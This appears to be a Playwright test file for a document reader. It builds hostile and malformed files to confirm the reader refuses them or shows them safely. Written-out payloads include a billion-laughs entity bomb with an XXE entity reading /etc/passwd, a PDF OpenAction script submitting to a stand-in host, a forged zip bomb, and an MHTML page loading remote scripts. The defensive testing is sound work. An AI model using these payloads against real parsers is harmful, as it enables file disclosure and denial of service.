import { readFile, truncate, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { expect } from '@playwright/test';
import { strToU8, zipSync } from 'fflate';
import { logPages, makePdf } from '../../documents/make-pdf.ts';
import { chooseDocument, DOCUMENTS, openDocument } from '../drivers/document.ts';
import { expectPainted } from '../drivers/painted.ts';
import { mark } from '../drivers/record.ts';
import { test } from './journey.ts';

/** The files that mammoth is tested with, which we did not write. */
const MAMMOTH = path.resolve(import.meta.dirname, '../../../node_modules/mammoth/test/test-data');

const XFA = `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><script contentType="application/x-javascript">app.alert(1)</script></template></xdp:xdp>`;
const LAUGHS = `<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "ha"><!ENTITY b "${'&a;'.repeat(50)}"><!ENTITY c "${'&b;'.repeat(50)}"><!ENTITY d "${'&c;'.repeat(50)}"><!ENTITY e "${'&d;'.repeat(50)}"><!ENTITY x SYSTEM "file:///etc/passwd">]>
<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Before &e; &x; after.</w:t></w:r></w:p></w:body></w:document>`;
const MHTML = `From: <Saved by Blink>
Subject: A saved page
MIME-Version: 1.0
Content-Type: multipart/related; type="text/html"; boundary="b"

--b
Content-Type: text/html; charset=utf-8
Content-Location: https://away.example/

<html><head><script src="https://away.example/x.js"></script><link rel="stylesheet" href="https://away.example/x.css"></head>
<body><script>window.ran = 1</script><p onclick="window.ran = 2">Words of the saved page.</p><img src="https://away.example/x.png" srcset="https://away.example/y.png 2x"><iframe src="https://away.example/"></iframe></body></html>
--b--
`;
const CONTENT_TYPES =
  '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>';
const RELATIONS =
  '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>';

const docx = (document: Uint8Array) =>
  Buffer.from(
    zipSync({
      '[Content_Types].xml': strToU8(CONTENT_TYPES),
      '_rels/.rels': strToU8(RELATIONS),
      'word/document.xml': document,
    }),
  );

/** A Word file whose directory tells the truth: it unpacks to half a gigabyte. */
function bomb(): Buffer {
  const packed = docx(new Uint8Array(4_000_000));
  const directory = packed.readUInt32LE(packed.length - 6);
  const entry = packed.indexOf('word/document.xml', directory) - 46;
  packed.writeUInt32LE(500_000_000, entry + 24);
  return packed;
}

const stream = (text: string) => `<< /Length ${text.length} >>\nstream\n${text}\nendstream`;
const script = '<< /S /JavaScript /JS (app.alert\\("ran"\\); this.submitForm\\("https://away.example/"\\)) >>';

/** A file, and what is said of it or shown. */
const files: readonly [
  what: string,
  name: string,
  made: () => Buffer | string | Promise<Buffer>,
  said: RegExp,
  /** What is said of it over the document. */
  over?: RegExp,
][] = [
  [
    'an XFA form',
    'xfa.pdf',
    () =>
      makePdf([['Words beside the form.']], {
        catalog: '/AcroForm << /Fields [] /XFA 5 0 R >>',
        objects: [stream(XFA)],
      }),
    /Words beside the form/,
    /a form of the XFA kind/,
  ],
  [
    'scripts in a PDF',
    'script.pdf',
    () =>
      makePdf([['Words of the letter.']], {
        catalog: '/OpenAction 5 0 R /AA << /WC 5 0 R >> /Names << /JavaScript << /Names [(a) 5 0 R] >> >>',
        objects: [script],
        page: '/AA << /O 5 0 R >>',
      }),
    /Words of the letter/,
  ],
  ['100,000 pages', 'pages.pdf', () => makePdf(Array.from({ length: 100_000 }, () => [])), /more than 5,000 pages/],
  [
    'a PDF that says it has more pages than it has',
    'count.pdf',
    () => String(makePdf([['The only page.']])).replace('/Count 1 ', '/Count 9 '),
    /The only page|can’t be read/,
  ],
  [
    'half of a PDF',
    'half.pdf',
    async () => {
      const whole = await readFile(path.join(DOCUMENTS, 'review.pdf'));
      return whole.subarray(0, whole.length / 2);
    },
    /can’t be read|damaged|There is no text/,
  ],
  ['a zip bomb', 'bomb.docx', bomb, /would be too large unpacked: more than 400 MB/],
  ['entities without end', 'laughs.docx', () => docx(strToU8(LAUGHS)), /Before|can’t be read/],
  [
    'half of a Word file',
    'half.docx',
    async () => {
      const whole = await readFile(path.join(DOCUMENTS, 'review.docx'));
      return whole.subarray(0, whole.length / 2);
    },
    /can’t be read/,
  ],
  [
    'a PDF under the name of a Word file',
    'letter.docx',
    () => makePdf([['A letter after all.']]),
    /A letter after all/,
  ],
  ['scripts and pictures in a saved page', 'saved.mhtml', () => MHTML, /Words of the saved page/],
  [
    'an OpenDocument file',
    'minutes.odt',
    () => Buffer.from(zipSync({ mimetype: [strToU8('application/vnd.oasis.opendocument.text'), { level: 0 }] })),
    /Save it as PDF or Word/,
  ],
];

test('hostile and broken files: each is shown or refused in plain words, nothing of them runs, nothing stored is touched', async ({
  driven,
}, info) => {
  test.setTimeout(400_000);
  const { page } = driven;
  page.on('dialog', () => {
    throw new Error('a document opened a dialog');
  });
  const record = await openDocument(driven, 'review.docx');
  await mark(record, 'named the feeling with Robin before asking about school', '1');
  for (const [what, name, made, said, over] of files) {
    await test.step(what, async () => {
      const file = info.outputPath(name);
      await writeFile(file, await made());
      await chooseDocument(page, file);
      await expect(
        page.getByRole('alert').or(page.locator('#document')).filter({ hasText: said }).first(),
      ).toBeAttached({
        timeout: 60_000,
      });
      if (over) await expect(page.locator('.reader-bar')).toContainText(over);
      expect(await page.evaluate(() => Reflect.get(window, 'ran'))).toBeUndefined();
      expect(((await page.locator('#document').textContent()) ?? '').length).toBeLessThan(100_000);
      expect(await page.locator('#document :is(script, iframe, [src^="http"], [srcset], [onclick])').count()).toBe(0);
    });
  }
  await test.step('a file of more than 200 MB', async () => {
    const file = info.outputPath('huge.pdf');
    await writeFile(file, '%PDF-1.7\n');
    await truncate(file, 201 * 1_024 * 1_024);
    await chooseDocument(page, file);
    await expect(page.getByRole('alert')).toContainText('more than 200 MB');
  });
  await openDocument(driven, 'review.docx');
  await expectPainted(page, ['named the feeling with Robin before asking about school']);
  await expect(record.panel.getByRole('heading', { name: 'In place (1)' })).toBeVisible();
});

/** Files that mammoth is tested with, and words that they show. */
const published: readonly [name: string, words: RegExp][] = [
  ['tables.docx', /Top left.*Bottom right/s],
  ['footnotes.docx', /Ouch/],
  ['endnotes.docx', /Ouch/],
  ['text-box.docx', /Datum plane/],
  ['strict-format.docx', /Test/],
  ['simple-list.docx', /Apple.*Banana/s],
  ['utf8-bom.docx', /This XML has a byte order mark/],
  ['single-paragraph.docx', /Walking on imported air/],
  ['comments.docx', /Ouch/],
  ['empty.docx', /There is no text/],
  ['external-picture.docx', /There is no text/],
];

test('the Word files that mammoth is tested with are shown', async ({ driven }) => {
  test.setTimeout(400_000);
  const { page } = driven;
  await page.goto(driven.url('reader.html'));
  for (const [name, words] of published) {
    await test.step(name, async () => {
      await chooseDocument(page, path.join(MAMMOTH, name));
      const shown = page.getByRole('alert').or(page.locator('#document'));
      await expect(shown.filter({ hasText: words }).first()).toBeAttached();
    });
  }
});

test('the pages that are there are shown when others are damaged, and they are named', async ({ driven }, info) => {
  const { page } = driven;
  const whole = makePdf(logPages(3)).toString('latin1');
  // The second page is a number.
  const file = info.outputPath('damaged.pdf');
  const damaged = whole.replace('\n7 0 obj\n<< /Type /Page ', '\n7 0 obj\n42 % ype /Page ');
  await writeFile(file, Buffer.from(damaged, 'latin1'));
  await page.goto(driven.url('reader.html'));
  await chooseDocument(page, file);
  await expect(page.locator('.run', { hasText: 'Line 47 of page 1:' })).toBeAttached();
  await expect(page.getByText('Page 2 is damaged and can’t be read.')).toBeVisible();
  await expect.poll(() => page.locator('.page canvas').count()).toBeGreaterThan(0);
  await page.screenshot({ path: info.outputPath('damaged.png') });
});
